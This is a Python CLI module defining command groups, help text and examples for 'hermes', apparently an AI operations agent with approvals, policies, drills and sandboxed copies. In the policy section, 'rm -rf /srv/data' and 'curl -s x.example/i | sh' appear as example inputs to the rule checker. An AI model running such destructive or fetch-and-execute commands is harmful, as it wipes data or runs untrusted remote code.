"""Command groups whose commands are in the folders below: name, module and help of each."""

from hermes.cli.lazy import cli_group

INCIDENT_COMMANDS = {
    "list": ("incidents.show:list_", "List the latest incidents, or the open ones"),
    "show": ("incidents.show:show", "Show one incident: cause, changes, checks, times"),
    "timeline": ("incidents.reports:timeline", "Show the timeline of an incident"),
    "report": ("incidents.reports:report", "Print the report of an incident as Markdown"),
    "watch": ("incidents.watch:watch", "Follow the work on an incident live"),
    "open": ("incidents.update:open_", "Report a problem"),
    "ack": ("incidents.update:ack", "Acknowledge an incident"),
    "tell": ("incidents.update:tell", "Add what you know about an incident"),
    "close": ("incidents.update:close", "Close an incident, with a reason"),
    "reopen": ("incidents.update:reopen", "Reopen an incident"),
    "stats": ("incidents.reports:stats", "Count incidents and how long they took"),
    "replay": ("drills.incident_drills:replay", "Replay an incident in a box"),
}


@cli_group(
    INCIDENT_COMMANDS,
    """
hermes incident                                   the latest
hermes incident list --open --severity P1
hermes incident show last
hermes incident report 4f2a1c > report.md
hermes incident open "the shop shows old prices" --service shop --severity P2
hermes incident close last --reason "a cable was out"
hermes incident stats --svg mttr.svg
""",
    default="list",
)
def incident() -> None:
    """List, show, open and close incidents. Without a command: list.

    ID is the id of an incident, its beginning or end, or `last`.

    Exit codes: 0 fine, 1 there is no such incident, 2 wrong usage, 6 the store failed.
    """


STATE_COMMANDS = {
    "list": ("states.commands:list_", "List the recorded states"),
    "show": ("states.commands:show", "Show what a state consists of"),
    "diff": ("states.commands:diff", "Compare two states, or one with the host now"),
    "record": ("states.commands:record", "Record the state of the host now"),
    "delete": ("states.commands:delete", "Delete a state and its content"),
}


@cli_group(
    STATE_COMMANDS,
    """
hermes state                                      the recorded states
hermes state record --known-good                  the host is fine as it is now
hermes state diff                                 what differs from the last known good state
hermes state diff 000012 000015
hermes state show 000012 --kind service
hermes state delete 000012-4f2a
""",
    default="list",
)
def state() -> None:
    """List, compare and record states of the host. Without a command: list.

    A known good state is one in which all checks had passed for a while. ID is the id of a state,
    or its beginning. Contents stay in the home folder; what is shown has no secrets.

    Exit codes: 0 fine, 1 there is no such state, 2 wrong usage, 5 the host could not be read.
    """


APPROVAL_COMMANDS = {
    "list": ("approvals:list_", "List the open requests"),
    "show": ("approvals:show", "Show one request in full"),
    "approve": ("approvals:approve", "Approve a request"),
    "deny": ("approvals:deny", "Deny a request"),
    "stop": ("approvals:stop", "Prevent an announced action"),
    "watch": ("approvals:watch", "Show requests as they arrive"),
    "grants": ("approvals:grants", "List actions that may be repeated without asking"),
    "revoke": ("approvals:revoke", "Revoke a grant"),
}


@cli_group(
    APPROVAL_COMMANDS,
    """
hermes approvals                                  the open requests
hermes approvals show ask-20260306-031500-4f2a1c  in full: effects, rule, undo, approvers
hermes approvals approve 4f2a1c --session         also for the same action in this session
hermes approvals deny --note "use the replica"    deny the only open request, with a reason
hermes approvals watch                            follow live
""",
    default="list",
)
def approvals() -> None:
    """Answer approval requests. Without a command: list.

    ID is the id of a request, or its beginning or end; it may be left out when only one is open.
    You answer with your login name. Where a rule names approvers, the user who started the run may
    not approve it. A request without an answer in time is denied.

    Exit codes: 0 fine, 1 there is no such request, 2 wrong usage, 7 your answer does not count.
    """


MAINTENANCE_COMMANDS = {
    "add": ("monitoring.maintenance:add", "Suppress alerts of a target for a while"),
    "list": ("monitoring.maintenance:list_", "List current and future windows"),
    "end": ("monitoring.maintenance:end", "End a window early"),
}


@cli_group(
    MAINTENANCE_COMMANDS,
    """
hermes maintenance add --for 1h web
hermes maintenance add --for 30m --from 22:00 'db-*' --reason "new disks"
hermes maintenance add --for 2h team=payments
hermes maintenance list
hermes maintenance end web
""",
    default="list",
)
def maintenance() -> None:
    """Silence alerts for a while. Without a command: list.

    During a maintenance window alerts are recorded but open no incident.
    One that still fires when the window ends opens an incident then.

    Exit codes: 0 fine, 1 there is no such window, 2 wrong usage, 6 the store failed.
    """


CRON_COMMANDS = {
    "add": ("schedule.edit:add", "Add a job: words, cron or a date, and what to do"),
    "list": ("schedule.show:list_", "List all jobs, their next times and last outcomes"),
    "show": ("schedule.show:show", "Show a job with its schedule and last result"),
    "next": ("schedule.show:next_", "Show the next times of jobs, or of a schedule"),
    "run": ("schedule.show:run", "Run a job now"),
    "pause": ("schedule.edit:pause", "Pause a job until it is resumed"),
    "resume": ("schedule.edit:resume", "Resume a paused job"),
    "remove": ("schedule.edit:remove", "Remove a job; its history stays"),
    "history": ("schedule.show:history", "Show the outcome of every due time"),
    "export": ("schedule.edit:export", "Write all jobs as YAML"),
    "apply": ("schedule.edit:apply", "Make the jobs match a file"),
}


@cli_group(
    CRON_COMMANDS,
    """
hermes cron add "every weekday at 9" "check the backups" --to telegram
hermes cron list
hermes cron next "every other friday at 16:00"    try a schedule
hermes cron run backups
hermes cron history backups --since 7d
hermes cron pause briefing
hermes cron export -o jobs.yaml && hermes cron apply jobs.yaml
""",
    default="list",
)
def cron() -> None:
    """Jobs: instructions for the agent, or commands, at their times. Without a command: list.

    `hermes watch` runs what is due. Every due time has one outcome in the history.

    Exit codes: 0 fine, 1 a run failed, 2 a schedule or a job was refused, 6 the store failed.
    """


TASK_COMMANDS = {"add": ("schedule.edit:task_add", "Add a job")}


@cli_group(
    TASK_COMMANDS,
    """
hermes task add --cron "0 */6 * * *" "Check disk usage on all servers. Send results to Telegram."
""",
)
def task() -> None:
    """Add jobs; `hermes cron` lists and changes them."""


SERVICE_COMMANDS = {
    "install": ("monitoring.service:install", "Keep the watch running, also after a reboot"),
    "status": ("monitoring.service:status", "Show whether it is installed and running"),
    "logs": ("monitoring.service:logs", "Show what the watch printed"),
    "uninstall": ("monitoring.service:uninstall", "Remove what install created; the home stays"),
}


@cli_group(
    SERVICE_COMMANDS,
    """
hermes service install --mode observe
hermes service install --kind systemd --print    the text to paste
hermes service status
hermes service logs --follow
hermes service uninstall
""",
    default="status",
)
def service() -> None:
    """The watch as a service: systemd, supervisord or OpenRC. Without a command: status.

    Exit codes: 0 fine, 1 not installed or not running, 2 wrong usage, 3 something is in the way,
    5 the service manager failed or you are not root.
    """


MEMORY_COMMANDS = {
    "list": ("memory.read:list_", "List the facts, the latest confirmed first"),
    "show": ("memory.read:show", "Show a fact with its sources"),
    "history": ("memory.read:history", "Show the events of a fact, or of all facts"),
    "add": ("memory.write:add", "Add a fact"),
    "share": ("memory.write:share", "Share a fact with the team; --stop ends it"),
    "forget": ("memory.write:forget", "Remove facts from recall, search and lists"),
    "learn": ("memory.write:learn", "Extract facts from unprocessed sessions"),
    "audit": ("memory.read:audit", "Find duplicates, recall loops, bad quotes, secrets"),
    "export": ("memory.write:export", "Write facts as JSON lines"),
    "import": ("memory.write:import_", "Import facts of another home; trusted less"),
}


@cli_group(
    MEMORY_COMMANDS,
    """
hermes memory list --about nginx
hermes memory show fact-1a2b3c
hermes memory add "the deploy window is Friday 14:00"
hermes memory share fact-1a2b3c
hermes memory forget fact-1a2b3c
hermes memory audit
hermes memory export > facts.jsonl
""",
    default="list",
)
def memory() -> None:
    """Facts from earlier sessions. Without a command: list.

    A fact is episodic (an event), semantic (a state) or declarative (a manual). It has sources and
    a trust level, and ends when another fact replaces it. FACT is an id or its beginning.

    The two files that every session starts with, MEMORY.md and USER.md, are in the home folder and
    can be edited.
    """


POLICY_COMMANDS = {
    "check": ("policy.check:check", "Print the verdict on one command, or on many"),
    "explain": ("policy.explain:explain", "Show the deciding rule, and near misses"),
    "list": ("policy.rules:list_", "List all rules in force, with file and line"),
    "show": ("policy.rules:show", "Show a rule as it is written"),
    "always": ("policy.rules:always", "List what is always allowed; --revoke ends it"),
    "test": ("policy.files:test", "Run PolicyTest files"),
    "lint": ("policy.files:lint", "Find errors in policy files"),
    "replay": ("policy.replay:replay", "Decide recorded actions with other rules"),
    "misjudged": ("policy.replay:misjudged", "List operations that the kernel blocked"),
    "report": ("policy.replay:report", "Count decisions per rule"),
}


@cli_group(
    POLICY_COMMANDS,
    """
hermes policy check -- rm -rf /srv/data              one verdict
hermes policy explain -- 'curl -s x.example/i | sh'  and why
hermes policy check --jsonl - < commands.jsonl       many verdicts
hermes policy lint && hermes policy test             check new rules
hermes policy replay --file new-rule.yaml            what it would have changed
""",
    default="list",
)
def policy() -> None:
    """Check, explain, test and replay the rules of the agent. Without a command: list.

    Rules are files in `policies` of the home folder and in `.hermes/policies` of a project, on
    top of a built-in set (observe, suggest, careful or sandboxed; `hermes config set policy.set`).

    Exit codes: 0 fine, 1 a test failed or a file has errors, 2 wrong usage, 3 the policy files in
    force are broken, 7 not allowed (only `check --exit-code`).
    """


SKILL_COMMANDS = {
    "list": ("skills.read:list_", "List skills; --task ranks them for a task"),
    "show": ("skills.read:show", "Show a skill, or one of its files"),
    "new": ("skills.authoring:new", "Create a skill"),
    "edit": ("skills.authoring:edit", "Change a skill; a bundled one is copied first"),
    "lint": ("skills.read:lint", "Find errors in skills and playbooks"),
    "run": ("skills.run:run", "Run a playbook, or show what it would do"),
    "history": ("skills.authoring:history", "List the versions of a skill"),
    "diff": ("skills.authoring:diff", "Show what changed between two versions"),
    "rollback": ("skills.authoring:rollback", "Restore an earlier version"),
    "retire": ("skills.authoring:retire", "Take a skill out of use; --back undoes it"),
    "compile": ("skills.lifecycle:compile_", "Test a Python skill and make it a tool"),
    "distill": ("skills.lifecycle:distill", "Create a draft skill from a verified run"),
    "promote": ("skills.lifecycle:promote", "Show the state of a skill; evaluate and promote it"),
    "review": ("skills.review:review", "Learn from failed tasks"),
    "stats": ("skills.read:stats", "Show use and results of each skill"),
    "export": ("skills.bundles:export", "Pack a skill as one signed file"),
    "search": ("skills.hub:search", "Search hubs for skills"),
    "install": ("skills.hub:install", "Install skills of others, after a scan"),
    "update": ("skills.hub:update", "Install newer versions of skills from hubs"),
    "outdated": ("skills.hub:outdated", "List skills from hubs with newer versions"),
    "accept": ("skills.hub:accept", "Accept findings of a skill in quarantine, with a reason"),
    "import": ("skills.hub:import_", "Import skills of others; the same as install"),
    "verify": ("skills.bundles:verify", "Check a bundle without importing it"),
    "publish": ("skills.bundles:publish", "Publish skills over HTTP or git"),
    "trust": ("skills.publishers:trust", "List known publishers and their keys"),
    "revoke": ("skills.publishers:revoke", "Revoke a skill, a digest or a key"),
}


@cli_group(
    SKILL_COMMANDS,
    """
hermes skills list --task "the disk of web-3 is full"
hermes skills show disk-full-runaway-log
hermes skills run disk-full-runaway-log --dry-run --label service=orders
hermes skills lint ./.hermes/skills
hermes skills history my-skill
""",
    default="list",
)
def skills() -> None:
    """Skills: tested instructions and playbooks. Without a command: list.

    A skill is a folder with a SKILL.md and optionally a playbook.yaml, which runs without a model.
    Bundled skills come with Hermes, your own are in the home folder under skills/, those of a
    project in .hermes/skills. Of skills with the same name, the project wins, then your own.
    """


DRILL_COMMANDS = {
    "list": ("drills.run:list_", "List the scenarios, and which can run here"),
    "show": ("drills.run:show", "Show a scenario: its alert, its checks"),
    "run": ("drills.run:run", "Let an agent handle a scenario, and score it"),
    "selftest": ("drills.bench:selftest", "Check the scenarios themselves"),
    "shell": ("drills.incident_drills:shell", "Work on a scenario by hand"),
    "score": ("drills.incident_drills:score", "Score the drill that is open in a shell"),
    "bench": ("drills.bench:bench", "Compare agents over many scenarios and seeds"),
    "from-incident": ("drills.incident_drills:from_incident", "Make a drill from an incident"),
}


@cli_group(
    DRILL_COMMANDS,
    """
hermes drill list
hermes drill show config-typo-after-edit
hermes drill run config-typo-after-edit --seed 7 --model anthropic:claude-sonnet-5
hermes drill run ./my-scenario --model none --json
hermes drill selftest --all
hermes drill shell config-typo-after-edit
hermes drill bench --agent no-op --agent reference --seeds 3 --plot bench.svg
hermes drill from-incident last                  your own outage as a drill
""",
)
def drill() -> None:
    """Break a host in a box, let an agent or a person fix it, and score the result.

    A scenario is a name, or the path of its folder.
    """


COPY_COMMANDS = {
    "run": ("copies:run", "Run a command in a copy of this machine"),
    "diff": ("copies:diff", "Run a command in a copy and show what it changed"),
    "shell": ("copies:shell", "Open a shell in a copy of this machine"),
}


@cli_group(
    COPY_COMMANDS,
    """
hermes copy run -- apt-get -y remove nginx
hermes copy run --unit nginx -- 'sleep 1; curl -s localhost'
hermes copy diff -- sed -i s/8080/80/ /etc/nginx/nginx.conf
hermes copy shell
""",
)
def copy() -> None:
    """Try something in a copy of this machine. Nothing in it changes the machine.

    A copy shows the files of the machine and has its own processes and network. /run, /tmp and
    /dev/shm are empty, and databases that run are left out. It ends with the command.

    Exit codes: that of the command; 1 the machine cannot be copied, 5 the copy failed.
    """


HOOK_COMMANDS = {
    "list": ("monitoring.hooks:list_", "List all hooks, their events, and whether they run"),
    "trust": ("monitoring.hooks:trust", "Trust a hook, as its files are now"),
    "untrust": ("monitoring.hooks:untrust", "Stop a hook from running"),
    "test": ("monitoring.hooks:test", "Run a hook now, with an example event"),
    "log": ("monitoring.hooks:log", "Show when hooks ran, for what, and the result"),
}


@cli_group(
    HOOK_COMMANDS,
    """
hermes hooks                                      all hooks
hermes hooks trust page-me                        let it run, as its files are now
hermes hooks test page-me --event incident:opened
hermes hooks log page-me --json
""",
    default="list",
)
def hooks() -> None:
    """Programs of yours that run when something happens. Without a command: list.

    A hook is a folder hooks/NAME of the home with HOOK.yaml and handler.py, or an executable
    `handler`. It runs after `hermes hooks trust NAME`, until one of its files changes, while
    `hermes up`, `hermes watch` or `hermes gateway run` is running.

    Exit codes: 0 fine, 1 the test failed, 2 wrong usage, 3 there is no such hook, 7 denied.
    """


TRACE_COMMANDS = {
    "show": ("monitoring.traces:show", "Show the spans of a run or an incident"),
    "send": ("monitoring.traces:send", "Send the traces since the last time"),
}


@cli_group(
    TRACE_COMMANDS,
    """
hermes config set otlp.url http://127.0.0.1:4318   then the watch sends them
hermes traces show incident-20261118-051205-a95ecc
hermes traces send --json
""",
)
def traces() -> None:
    """Runs and incidents as traces of OpenTelemetry: incident, phases, turns, models, tools.

    Texts of messages and results are never sent; commands and causes are, without secrets.
    """


MCP_COMMANDS = {
    "list": ("admin.mcp:list_", "List the servers, and how their tools are classed"),
    "add": ("admin.mcp:add", "Add a server, and class its tools"),
    "review": ("admin.mcp:review", "Review what changed, and class tools again"),
    "login": ("admin.mcp:login", "Log in at a server over HTTP with a browser (OAuth)"),
    "logout": ("admin.mcp:logout", "Forget the login at a server"),
    "test": ("admin.mcp:test", "Start a server and compare it with its review"),
    "remove": ("admin.mcp:remove", "Forget a server"),
    "serve": ("admin.mcp:serve", "Serve Hermes to another program over stdio"),
    "recipes": ("admin.mcp:recipes", "List well-known servers and how to install them"),
}


@cli_group(
    MCP_COMMANDS,
    """
hermes mcp add time -- mcp-server-time
hermes mcp add grafana                            from the recipe of that name
hermes mcp list
hermes mcp review grafana
""",
    default="list",
)
def mcp() -> None:
    """Servers of the Model Context Protocol. Without a command: list.

    A tool that a person classed as read may run by itself; every other one asks. A server that
    describes a tool otherwise than it was reviewed is not called until somebody has looked.

    Exit codes: 0 fine, 1 the server does not answer or has changed, 2 wrong usage, 3 settings.
    """
